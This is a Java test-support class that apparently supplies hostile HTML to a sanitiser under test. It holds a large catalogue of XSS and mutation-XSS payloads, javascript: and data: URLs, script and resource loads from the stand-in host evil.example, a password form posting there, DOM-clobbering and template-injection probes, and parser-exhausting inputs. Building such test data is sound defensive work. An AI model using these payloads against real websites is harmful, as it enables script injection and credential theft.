package io.erasuredesk.abuse;

import java.util.ArrayList;
import java.util.List;

/**
 * HTML that wants to act, by families. Whatever works sets {@code pwned}, opens a dialog or asks
 * the host {@code evil.example} for something.
 */
final class HostileHtml {

  private static final String JS = "alert(1);top.pwned=1;self.pwned=1";
  private static final String HOST = "http://evil.example/";

  private HostileHtml() {}

  /** All of them; one body each. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    scripts(all);
    handlers(all);
    schemes(all);
    mutations(all);
    unclosed(all);
    loads(all);
    forms(all);
    names(all);
    large(all);
    return all;
  }

  private static void scripts(List<String> all) {
    for (String tag :
        List.of(
            "<script>%s</script>",
            "<SCRIPT>%s</SCRIPT>",
            "<script\n>%s</script >",
            "<script/x>%s</script>",
            "<scr<script>ipt>%s</scr</script>ipt>",
            "<<script>%s//<</script>",
            "<script type=module>%s</script>",
            "<script src=" + HOST + "s.js></script>",
            "<script src=//evil.example/s.js></script>",
            "<script src=data:text/javascript,%s></script>",
            "<script>/*<![CDATA[*/%s/*]]>*/</script>",
            "<script xmlns=http://www.w3.org/1999/xhtml>%s</script>",
            "<\u0000script>%s</script>",
            "<script\u000c>%s</script>",
            "%%3Cscript%%3E%s%%3C/script%%3E",
            "&lt;script&gt;%s&lt;/script&gt;",
            "+ADw-script+AD4-%s+ADw-/script+AD4-",
            "\u00bcscript\u00be%s\u00bc/script\u00be",
            "<noscript><script>%s</script></noscript>",
            "<iframe srcdoc='<script>%s</script>'></iframe>")) {
      all.add(tag.replace("%s", JS).replace("%%", "%"));
    }
  }

  private static void handlers(List<String> all) {
    for (String tag :
        List.of(
            "<img src=x onerror='%s'>",
            "<img src=x onerror\n=\n'%s'>",
            "<IMG SRC=x ONERROR=\"%s\">",
            "<img/src=x/onerror='%s'>",
            "<img src=x:x onerror=&#x61;lert(1)>",
            "<body onload='%s'>",
            "<div onmouseover='%s' style='position:fixed;inset:0'>x</div>",
            "<details open ontoggle='%s'>x</details>",
            "<input autofocus onfocus='%s'>",
            "<video><source onerror='%s'></video>",
            "<audio src=x onerror='%s'></audio>",
            "<marquee onstart='%s'>x</marquee>",
            "<p onclick='%s' onpointerenter='%s'>x</p>",
            "<svg onload='%s'></svg>",
            "<svg><animate onbegin='%s' attributeName=x dur=1s></svg>",
            "<math><mi onclick='%s'>x</mi></math>",
            "<p title='\"><img src=x onerror=%s>'>x</p>",
            "<p title=`><img src=x onerror=alert(1)>`>x</p>",
            "<img alt='`<img src=x onerror=%s>`'>",
            "<p style='animation:x 1s' onanimationstart='%s'>x</p>")) {
      all.add(tag.replace("%s", JS));
    }
  }

  private static void schemes(List<String> all) {
    for (String url :
        List.of(
            "javascript:%s",
            "JaVaScRiPt:%s",
            " javascript:%s",
            "java\tscript:%s",
            "java&#10;script:%s",
            "&#106;avascript:%s",
            "&#x6A&#x61vascript:%s",
            "javascript&colon;%s",
            "\u0001javascript:%s",
            "vbscript:msgbox(1)",
            "data:text/html,<script>%s</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "blob:http://evil.example/x",
            "file:///etc/passwd",
            "view-source:javascript:%s",
            "jar:javascript:%s!/",
            "feed:javascript:%s",
            "//evil.example/x",
            "/console/sign-out",
            "?x",
            "https://desk.example/console/staff",
            "https://DESK.example./console",
            "http:\\\\desk.example\\console",
            "https://user@desk.example/console",
            "http://127.0.0.1/console",
            "http://2130706433/",
            "http://[::1]/",
            "http://localhost/x")) {
      all.add("<a href='" + url.replace("%s", JS) + "'>a link</a>");
    }
    all.add("<img src='javascript:" + JS + "'>");
    all.add("<img src='data:image/svg+xml,<svg onload=alert(1)>'>");
  }

  private static void mutations(List<String> all) {
    String img = "<img src=x onerror='" + JS + "'>";
    for (String raw :
        List.of("noscript", "style", "title", "textarea", "xmp", "iframe", "noembed", "noframes")) {
      all.add("<" + raw + "><p title='</" + raw + ">" + img + "'></" + raw + ">");
      all.add("<svg><" + raw + ">" + img + "</" + raw + "></svg>");
    }
    all.add("<math><mtext><table><mglyph><style><!--</style>" + img);
    all.add("<form><math><mtext></form><form><mglyph><style></math>" + img);
    all.add("<svg></p><style><a id=\"</style>" + img + "\">");
    all.add("<template>" + img + "<script>" + JS + "</script></template>");
    all.add("<select><template><style><!--</style><a rel=\"--></style></template></select>" + img);
    all.add("<svg><foreignObject>" + img + "</foreignObject></svg>");
    all.add("<math><annotation-xml encoding=text/html>" + img + "</annotation-xml></math>");
    all.add("<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>");
    all.add("<listing>&lt;img src=x onerror=alert(1)&gt;</listing>");
    all.add("<table><td><svg><desc><table>" + img);
    all.add("<p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>");
    all.add("<!--><img src=x onerror=alert(1)>-->");
    all.add("<!--!> --!><img src=x onerror=alert(1)>");
  }

  /** Each might swallow what stands behind it. */
  private static void unclosed(List<String> all) {
    all.add("<plaintext>");
    all.add("<!-- never ends");
    all.add("<![CDATA[ never ends");
    all.add("<title>never ends");
    all.add("<textarea>never ends");
    all.add("<p title=\"never ends");
    all.add("<img src='x");
    all.add("<a href='http://evil.example/?");
    all.add("<style>p{background:url(" + HOST + "css)}");
    all.add("<select><option>");
    all.add("<table><tr><td>".repeat(20));
    all.add("<b><i><u>".repeat(20));
  }

  private static void loads(List<String> all) {
    for (String tag :
        List.of(
            "<img src=%su>",
            "<img srcset='%su 1x'>",
            "<img src=cid:nothing-here>",
            "<picture><source srcset=%su></picture>",
            "<video poster=%su></video>",
            "<table background=%su><tr><td background=%su>x</table>",
            "<body background=%su>",
            "<link rel=stylesheet href=%su>",
            "<link rel=preconnect href=%su><link rel=dns-prefetch href=//dns.evil.example>",
            "<link rel=prefetch href=%su><link rel=prerender href=%su>",
            "<link rel=preload as=image imagesrcset='%su 1x'>",
            "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"%su\"]}]}</script>",
            "<meta http-equiv=refresh content='0;url=%su'>",
            "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
            "<meta charset=utf-7>",
            "<base href=%su><img src=x>",
            "<style>@import '%su';p{background:url(%su)}</style>",
            "<p style='background:url(%su)'>x</p>",
            "<p style='background:\\75rl(%su)'>x</p>",
            "<p style=\"list-style:url('%su');content:url(%su)\">x</p>",
            "<iframe src=%su></iframe>",
            "<frameset><frame src=%su></frameset>",
            "<object data=%su></object>",
            "<embed src=%su>",
            "<audio src=%su autoplay></audio>",
            "<track src=%su>",
            "<svg><image href=%su /></svg>",
            "<a href=http://good.example ping=%su>x</a>",
            "<portal src=%su></portal>",
            "<q cite=%su>x</q>",
            "<bgsound src=%su><input type=image src=%su>")) {
      all.add(tag.replace("%su", HOST + "load" + all.size()));
    }
  }

  private static void forms(List<String> all) {
    all.add(
        "<form action=" + HOST + "><input type=password name=p><button>Sign in</button></form>");
    all.add("<input form=approve name=decision value=yes>");
    all.add("<form action=/console/sign-out method=post>");
    all.add("<button formaction=" + HOST + ">Go</button>");
    all.add("<isindex action=" + HOST + "><keygen><select name=x><option>x</select>");
    all.add("<dialog open>Type your password<textarea name=t></textarea></dialog>");
  }

  private static void names(List<String> all) {
    all.add("<p id=main class=refusal name=form>x</p><img name=querySelector><a id=location></a>");
    all.add("<p hx-get=/console/sign-out hx-trigger=load data-hx-post=/x>x</p>");
    all.add("<p v-html=x x-data=x ng-app=x data-x=y contenteditable popover slot=x part=x>x</p>");
    all.add("<form id=keys><input name=attributes><input name=parentNode></form>");
    all.add("<p>{7*7}{{7*7}}${7*7}#{7*7}{#include console/layout /}</p>");
    all.add("<p is=x-evil><x-evil>x</x-evil><slot name=x></slot></p>");
    all.add(
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'>over it</p>");
  }

  private static void large(List<String> all) {
    all.add("<div>".repeat(3_000));
    all.add("<p " + "a=b ".repeat(5_000) + ">x</p>");
    all.add("<a " + "href=b ".repeat(5_000) + ">x</a>");
    all.add("<table>" + "<tr><td colspan=60000 rowspan=60000>x".repeat(2_000) + "</table>");
  }
}
